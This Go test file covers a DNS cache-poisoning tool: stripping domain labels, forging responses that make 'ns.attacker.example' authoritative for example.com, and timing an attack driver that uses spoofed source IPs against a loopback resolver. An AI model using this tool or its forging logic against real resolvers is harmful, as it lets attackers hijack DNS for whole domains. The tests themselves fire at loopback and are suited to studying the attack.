package attack

import (
	"context"
	"net"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/dnskaminsky/poisoner/internal/query"
)

func TestDropFirstLabel(t *testing.T) {
	domain, err := dropFirstLabel("www.example.com")
	require.NoError(t, err)
	require.Equal(t, "example.com", domain)
}

func TestDropFirstLabelRejectsBareHostname(t *testing.T) {
	_, err := dropFirstLabel("localhost")
	require.Error(t, err)
}

func TestBuildForgedResponsePayload(t *testing.T) {
	q, err := query.BuildOne("ab3f9kd.example.com")
	require.NoError(t, err)

	msg, err := buildForgedResponse(q, "ab3f9kd.example.com", "example.com", "ns.attacker.example")
	require.NoError(t, err)

	require.True(t, msg.Header.QR)
	require.Len(t, msg.Answers, 1)
	require.EqualValues(t, 0, msg.Answers[0].TTL)
	require.Len(t, msg.Authorities, 1)
	require.EqualValues(t, authorityTTL, msg.Authorities[0].TTL)
	require.Equal(t, msg.Header.ID, q.Header.ID)
}

func TestRunAttackRequiresSpoofedIPs(t *testing.T) {
	_, err := RunAttack(context.Background(), Config{
		AttackerNS:       "ns.attacker.example",
		TargetDomain:     "example.com",
		TargetResolverIP: net.IPv4(127, 0, 0, 1),
		Duration:         10 * time.Millisecond,
	})
	require.Error(t, err)
}

// TestRunAttackScenarioF exercises spec §8 Scenario F: given a 100ms
// duration and one spoofed source IP, the driver should exit within
// 200ms and report fewer than 65536 IDs tried. Forging packets requires
// CAP_NET_RAW; this test skips itself when that privilege isn't
// available rather than failing on an environment it can't control.
func TestRunAttackScenarioF(t *testing.T) {
	cfg := Config{
		AttackerNS:       "ns.attacker.example",
		TargetDomain:     "example.com",
		TargetResolverIP: net.IPv4(127, 0, 0, 1),
		SpoofedSrcIPs:    []net.IP{net.IPv4(198, 51, 100, 1)},
		Duration:         100 * time.Millisecond,
	}

	start := time.Now()
	result, err := RunAttack(context.Background(), cfg)
	if err != nil {
		t.Skipf("skipping: attack driver requires raw-socket privilege: %v", err)
	}
	elapsed := time.Since(start)

	require.Less(t, elapsed, 200*time.Millisecond)
	require.Less(t, result.IDsTried, 65536)
}
